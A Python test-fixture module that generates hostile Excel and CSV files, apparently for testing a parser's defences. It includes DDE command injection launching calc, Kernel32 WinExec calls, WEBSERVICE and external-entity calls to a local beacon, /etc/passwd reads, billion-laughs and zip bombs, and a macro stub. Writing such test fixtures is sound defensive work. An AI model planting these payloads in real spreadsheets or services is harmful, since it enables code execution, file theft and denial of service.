# ruff: noqa: E501 - XML and tables read better in long lines
"""Workbooks made to hurt or to call home: bombs, absurd sizes, broken tables, and formulas that reach out."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial
from random import Random

from tests.documents.hostile_parts import BEACON, LAUGHS, MIB, zipped

_HOME = f"http://127.0.0.1:{BEACON}"
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def package(
    rows: str = "", *, after: str = "", before: str = "", book: str = "", links: str = "", styles: str = "",
    more: dict[str, str | bytes] | None = None, related: str = "", name: str = "S",
) -> bytes:  # fmt: skip
    """A workbook of one sheet with whatever shall stand in each place."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName='
        '"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        "_rels/.rels": relations(f'<Relationship Id="r1" Type="{_RELS}/officeDocument" Target="xl/workbook.xml"/>'),
        "xl/workbook.xml": f'<workbook {_MAIN} xmlns:r="{_RELS}"><sheets><sheet name="{name}" sheetId="1" r:id="r1"/></sheets>{book}</workbook>',
        "xl/_rels/workbook.xml.rels": relations(
            f'<Relationship Id="r1" Type="{_RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
            + (f'<Relationship Id="r2" Type="{_RELS}/styles" Target="styles.xml"/>' if styles else "") + related
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet {_MAIN} xmlns:r="{_RELS}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>',
    }  # fmt: skip
    if links:
        parts["xl/worksheets/_rels/sheet1.xml.rels"] = relations(links)
    if styles:
        parts["xl/styles.xml"] = f"<styleSheet {_MAIN}>{styles}</styleSheet>"
    return zipped(parts | (more or {}))


def relations(inside: str) -> str:
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{inside}</Relationships>'


def row(*cells: str) -> str:
    return f'<row r="1">{"".join(cells)}</row>'


def formula(text: str, value: str = "1") -> bytes:
    return package(row(f'<c r="A1"><f>{text}</f><v>{value}</v></c>'))


def external(kind: str, target: str) -> str:
    return f'<Relationship Id="r1" Type="{_RELS}/{kind}" Target="{target}" TargetMode="External"/>'


_REACHING_OUT = {
    "webservice": f'WEBSERVICE("{_HOME}/w")',
    "webservice-prefixed": f'_xlfn.WEBSERVICE("{_HOME}/w")',
    "webservice-inside": f'IF(TRUE,LEN(_xlfn._xlws.WEBSERVICE("{_HOME}/w")),0)',
    "dde": "cmd|'/c calc'!A1",
    "dde-function": 'DDE("soffice","/etc/passwd","A1")',
    "dde-quoted": "'cmd'|'/c calc.exe'!'A1'",
    "rtd": 'RTD("prog.id","server","topic")',
    "image": f'_xlfn.IMAGE("{_HOME}/i.png")',
    "other-book": f"'[{_HOME}/b.xlsx]S'!A1",
    "other-book-number": "[1]S!$A$1",
    "other-book-drive": "'C:\\x\\[b.xlsx]S'!A1",
    "unc": "'\\\\127.0.0.1\\share\\[b.xlsx]S'!A1",
    "libreoffice-link": f"'file:///etc/passwd'#$S.A1+'{_HOME}/x.ods'#$S.A1",
    "indirect": "INDIRECT(\"'file:///etc/passwd'#$S.A1\")",
    "indirect-joined": f'INDIRECT("\'{_HOME}/x.xlsx"&amp;CHAR(39)&amp;"#$S.A1")',
    "hyperlink-file": 'HYPERLINK("file:///etc/passwd","x")',
    "hyperlink-joined": 'HYPERLINK("\\\\127.0.0.1\\"&amp;A2,"x")',
    "call": 'CALL("Kernel32","WinExec","JCJ","calc",0)',
    "register": 'REGISTER.ID("kernel32","WinExec")',
    "cube": 'CUBEVALUE("server","[Measures].[x]")',
    "google": f'IMPORTXML("{_HOME}/x","//a")',
    "macro-function": "MyMacro(1)",
    "unclosed": 'SUM((((1,2"',
    "long": "+".join(["1"] * 30_000),
    "deep": "(" * 4000 + "1" + ")" * 4000,
}

HOSTILE_WORKBOOKS: dict[str, Callable[[], bytes]] = {
    **{f"{name}.xlsx": partial(formula, text.replace("<", "&lt;")) for name, text in _REACHING_OUT.items()},
    "indirect-cell.xlsx": lambda: package(
        row(f'<c r="A1" t="inlineStr"><is><t>\'{_HOME}/x.ods\'#$S.A1</t></is></c>', '<c r="B1"><f>INDIRECT(A1)</f></c>')
    ),
    "linked-cells.xlsx": lambda: package(
        row('<c r="A1"><v>1</v></c>', '<c r="B1"><v>2</v></c>'),
        after='<hyperlinks><hyperlink ref="A1" r:id="r1"/></hyperlinks>', links=external("hyperlink", "file:///etc/passwd"),
    ),
    "linked-unc.xlsx": lambda: package(
        row('<c r="A1"><v>1</v></c>'),
        after='<hyperlinks><hyperlink ref="A1" r:id="r1"/></hyperlinks>', links=external("hyperlink", "\\\\127.0.0.1\\share"),
    ),
    "names-reach-out.xlsx": lambda: package(
        row('<c r="A1"><f>Rate*2</f><v>4</v></c>'),
        book=f'<definedNames><definedName name="Rate">WEBSERVICE("{_HOME}/n")</definedName></definedNames>',
    ),
    "names-in-a-ring.xlsx": lambda: package(
        row('<c r="A1"><f>Ping</f></c>'),
        book='<definedNames><definedName name="Ping">Pong</definedName><definedName name="Pong">Ping</definedName></definedNames>',
    ),
    "laughs-in-sheet.xlsx": lambda: package(more={"xl/worksheets/sheet1.xml": f"<?xml version='1.0'?>{LAUGHS}<worksheet>&j;</worksheet>"}),
    "late-laughs.xlsx": lambda: package(
        more={"xl/worksheets/sheet1.xml": f"<?xml version='1.0'?>{' ' * 9000}{LAUGHS}<worksheet>&j;</worksheet>"}
    ),
    "outside-entity.xlsx": lambda: package(
        more={"xl/workbook.xml": f'<!DOCTYPE x [<!ENTITY a SYSTEM "{_HOME}/e">]><workbook>&a;</workbook>'}
    ),
    "bomb.xlsx": lambda: package(more={"xl/media/a.bin": bytes(600 * MIB)}),
    "bomb-in-sheet.xlsx": lambda: package('<row><c><v>1</v></c></row>' * 3_000_000),
    "million-styled.xlsx": lambda: package(
        "".join(f'<row r="{at}">' + '<c s="1"/>' * 100 + "</row>" for at in range(1, 10_001)), styles=_YELLOW
    ),
    "styled-columns.xlsx": lambda: package(
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        before='<cols><col min="1" max="16384" width="9" style="1"/></cols>', styles=_YELLOW,
    ),
    "far-cell.xlsx": lambda: package('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "beyond.xlsx": lambda: package('<row r="99999999"><c r="ZZZZ99999999"><v>1</v></c></row>'),
    "merged-all.xlsx": lambda: package(row('<c r="A1"><v>1</v></c>'), after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    "merged-twice.xlsx": lambda: package(
        row('<c r="A1"><v>1</v></c>'), after='<mergeCells><mergeCell ref="A1:C3"/><mergeCell ref="B2:D4"/></mergeCells>'
    ),
    "array-all.xlsx": lambda: package(row('<c r="A1"><f t="array" ref="A1:XFD1048576">1+1</f></c>')),
    "not-numbers.xlsx": lambda: package(
        row('<c r="A1"><v>NaN</v></c>', '<c r="B1"><v>1e999</v></c>', '<c r="C1" t="s"><v>77</v></c>', '<c r="D1"><v>x</v></c>')
    ),
    "bad-indices.xlsx": lambda: package(row('<c r="A1" s="-5"><v>1</v></c>', '<c r="B1" s="99999"><v>1</v></c>'), styles=_YELLOW),
    "same-sheet-names.xlsx": lambda: package(
        row('<c r="A1"><v>1</v></c>'), name="x" * 40 + "[]:*?/&apos;",
    ),
    "shared-ring.xlsx": lambda: package(
        row('<c r="A1"><f t="shared" si="0"/></c>', '<c r="B1"><f t="shared" ref="B1:B9" si="0">A1+1</f></c>', '<c r="A1"><f>A1</f></c>')
    ),
    "deep.xlsx": lambda: package(after="<extLst>" * 5000 + "</extLst>" * 5000),
    "format-of-doom.xlsx": lambda: package(
        row('<c r="A1" s="1"><v>1</v></c>'),
        styles='<numFmts><numFmt numFmtId="170" formatCode="' + "[" * 5000 + '&quot;\\"/></numFmts><cellXfs><xf/><xf numFmtId="170"/></cellXfs>',
    ),
    "macro.xlsm": lambda: package(
        row('<c r="A1"><v>1</v></c>'), more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Auto_Open"},
        related='<Relationship Id="r7" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
    ),
    "garbage.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le") + Random(8).randbytes(60_000),
    "dde.csv": lambda: b"a,b\n=cmd|'/c calc'!A1,\"=WEBSERVICE(\"\"x\"\")\"\n+1,-2,@SUM(1)\n",
    "wide.csv": lambda: b"," * 40_000 + b"\n",
    "nul.csv": lambda: b"a,b\n\x01\x02,c\n",
}  # fmt: skip
_YELLOW = (
    '<fills><fill><patternFill/></fill><fill><patternFill patternType="solid"><fgColor rgb="FFFFFF00"/></patternFill></fill>'
    '</fills><cellXfs><xf/><xf fillId="1"/></cellXfs>'
)
